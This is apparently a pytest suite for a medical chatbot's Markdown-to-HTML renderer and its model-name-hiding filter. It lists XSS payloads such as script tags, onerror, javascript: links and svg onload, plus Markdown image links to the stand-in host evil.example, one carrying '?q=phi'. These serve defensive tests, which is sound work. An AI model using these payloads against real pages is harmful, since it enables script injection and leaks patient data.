"""Model text to HTML: whatever a model says, nothing in it can be fetched, clicked or run."""

from html.parser import HTMLParser

import pytest

from huatuo.render import HIDDEN, hide_names, plain, to_html
from tests.patience import cpu_seconds

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/?q=phi)",
    "![x][1]\n\n[1]: http://evil.example/i.png",
    "[x][1]\n\n[1]: //evil.example/x",
    "[x][1]\n\n[1]: evil.example",
    '<div style="position:fixed;inset:0">sign in</div>',
    "http://evil.example/?q=1 www.evil.example me@evil.example",
    "<https://evil.example/>",
    "**血糖** <6.1 mmol/L，≥7.0 & 以上",
    "1. 一\n2. 二\n\n| 药 | 量 |\n|:--|--:|\n| 甲 | 1 |",
    "`<img src=http://evil.example>`",
    "```html\n<iframe src=http://evil.example></iframe>\n```",
    "[x]\u200b(http://evil.example)",
    "![a\nb](//evil.example/p)",
    "<form action=http://evil.example><input type=password></form>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "[m](mailto:a@evil.example) [f](ftp://evil.example)",
    "$$\\href{javascript:alert(1)}{x}$$",
    '```mermaid\ngraph TD\nclick A "javascript:alert(1)"\n```',
]
MORE = [
    "<svg/onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<details open ontoggle=alert(1)>",
    "<video src=http://evil.example/v>",
    "``` x onclick=alert(1) style=y\nz\n```",
    "~~~<b>\nx\n~~~",
    "\n\n<!-- x --><!DOCTYPE x><![CDATA[x]]><?php x ?>",
    "[x]: javascript:alert(1)\n[x]",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "# <b onmouseover=alert(1)>x</b>",
    "| <img src=x> | a |\n|---|---|\n| [x](//e) | ![](//e) |",
    "> <style>*{display:none}</style>",
    "x<br style='position:fixed'>",
    '"><script>alert(1)</script>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
ALLOWED = set(
    "p ol ul li strong em code pre h4 table thead tbody tr th td blockquote hr br".split()  # noqa: SIM905
)


class Elements(HTMLParser):
    """Collects elements, attributes and visible text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.other: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


@pytest.mark.parametrize("payload", PAYLOADS + MORE)
def test_no_payload_comes_alive(payload: str) -> None:
    for source in (payload, f"请看：{payload}\n\n{payload}", f"- {payload}\n\n> {payload}"):
        page = Elements(to_html(source))
        assert page.tags <= ALLOWED
        assert all(name == "start" and str(value).isdigit() for name, value in page.attributes)
        assert page.other == []
        assert Elements(plain(source)).tags <= {"br"}


def test_there_are_the_21_payloads_and_their_text_stays_visible() -> None:
    assert len(PAYLOADS) == 21
    shown = Elements(to_html("<script>alert(1)</script>\n\n![x](http://evil.example/)")).text
    assert "<script>alert(1)</script>" in shown and "![x](http://evil.example/)" in shown
    assert "[x]" in Elements(to_html("[x][1]\n\n[1]: //evil.example/x")).text
    assert Elements(to_html(PAYLOADS[10])).text.startswith("血糖 <6.1 mmol/L，≥7.0 & 以上")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("一行\n二行", "<p>一行<br />\n二行</p>"),
        ("**注意：**多喝水", "<p><strong>注意：</strong>多喝水</p>"),
        ("这是**“重点”**内容", "<p>这是<strong>“重点”</strong>内容</p>"),
        ("5*3*2cm，5cm*3cm*2cm", "<p>5*3*2cm，5cm*3cm*2cm</p>"),
        ("# 标题", "<h4>标题</h4>"),
        ("###### 标题", "<h4>标题</h4>"),
        ("建议\n---\n再说", "<p>建议</p>\n<hr />\n<p>再说</p>"),
        ("3. 三\n4. 四", '<ol start="3">\n<li>三</li>\n<li>四</li>\n</ol>'),
        ("    缩进的话", "<p>缩进的话</p>"),
        ("体温37~38℃，1~2次", "<p>体温37~38℃，1~2次</p>"),
        ("", ""),
    ],
)
def test_medical_text_reads_right(text: str, html: str) -> None:
    assert to_html(text) == html


def test_long_and_nested_text_is_rendered_soon() -> None:
    for text in (
        "*a " * 20_000,
        "[" * 50_000,
        ">" * 50_000,
        "- " * 20_000,
        "`" * 50_000,
        "\n" * 50_000,
        "*a_ " * 15_000,
        "字" * 1_000_000,
    ):
        assert cpu_seconds(lambda text=text: to_html(text), 2) < 2, text[:4]


def test_plain_text_is_escaped_once() -> None:
    assert plain("a<b>\n&\"'") == "a&lt;b&gt;<br>&amp;&quot;&#x27;"


def test_no_line_break_of_any_kind_ends_the_block_around_a_text() -> None:
    """The page's Markdown reads two CR as a blank line, and what follows as Markdown, with links."""
    evil = "a\r\r[x](http://evil.example)\r\n\r\n![x](http://evil.example)"
    for source in (evil, "`" + evil, "```\n" + evil, "x" * 60_000 + evil):
        assert "\r" not in plain(source) + to_html(source)
        assert "\n" not in plain(source)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("我是HuatuoGPT，很高兴", f"我是{HIDDEN}，很高兴"),
        ("您好，我是华佗GPT。", f"您好，我是{HIDDEN}。"),
        ("作为一个AI语言模型，我不能", f"作为{HIDDEN}，我不能"),
        ("我是由OpenAI训练的大型语言模型GPT-4。", f"我是{HIDDEN}。"),
        ("我是文心一言", f"我是{HIDDEN}"),
        ("通义千问认为", f"{HIDDEN}认为"),
        ("I am ChatGPT, made by OpenAI.", f"I am {HIDDEN}, made by {HIDDEN}."),
        ("As an AI language model, I cannot", f"As {HIDDEN}, I cannot"),
        ("我是示范模型甲", f"我是{HIDDEN}"),
        ("nano-hybrid说", f"{HIDDEN}说"),
        ("基于BLOOM", f"基于{HIDDEN}"),
    ],
)
def test_a_model_that_names_itself_is_hidden(text: str, shown: str) -> None:
    assert hide_names(text, ["nano-hybrid", "示范模型甲"]) == shown


@pytest.mark.parametrize(
    "text",
    [
        "谷丙转氨酶(GPT)45 U/L",
        "GPT 38 U/L，GOT 40",
        "华佗再造丸可以吃吗",
        "T5椎体骨折",
        "《本草纲目》",
        "A型血",
        "我是您的医生",
        "作为患者您可以",
        "blooming flowers",
        "claudication",
    ],
)
def test_medicine_is_not_taken_for_a_model(text: str) -> None:
    assert hide_names(text, ["A", ""]) == text
